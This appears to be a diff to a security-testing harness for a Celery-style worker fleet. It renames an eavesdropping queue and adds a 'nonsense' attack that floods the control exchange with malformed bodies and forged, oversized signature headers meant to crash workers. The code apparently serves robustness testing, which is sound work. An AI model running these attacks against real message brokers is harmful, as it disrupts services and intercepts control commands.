@@ -141,7 +141,7 @@ def shutdown(_: str) -> None:
 def listen(path: str) -> None:
     """Record the next command to workers, as one of them receives it."""
     with connection() as connected:
-        queue = Queue("attacker.celery.pidbox", CONTROL, durable=True, auto_delete=False)
+        queue = Queue("attacker@nowhere.celery.pidbox", CONTROL, durable=True, auto_delete=False)
         bound = queue(connected.channel())
         bound.declare()
         print("listening", flush=True)
@@ -163,6 +163,17 @@ def command(path: str) -> None:
             content_encoding=message["content_encoding"],
             headers=message["headers"],
         )
+
+
+def nonsense(_: str) -> None:
+    """Send what is no task and no command, to end the workers that read it."""
+    for body, content_type in (("[", "application/json"), ("[1]", "application/json"), ("x", "text/plain")):
+        for headers in ({}, {"task": None}, {"fleet-statement": "[" * 20_000, "fleet-signature": "x", "task": "x"}):
+            message = {"body": body, "headers": headers, "content_type": content_type, "content_encoding": "utf-8"}
+            publish({**message, "properties": {}})
+            with connection() as connected:
+                producer = Producer(connected.channel(), exchange=CONTROL, auto_declare=False)
+                producer.publish(body.encode(), content_type=content_type, content_encoding="utf-8", headers=headers)
 
 
 def event(_: str) -> None:
@@ -190,6 +201,7 @@ ATTACKS: dict[str, Callable[[str], None]] = {
     "listen": listen,
     "command": command,
     "event": event,
+    "nonsense": nonsense,
 }
 
 if __name__ == "__main__":
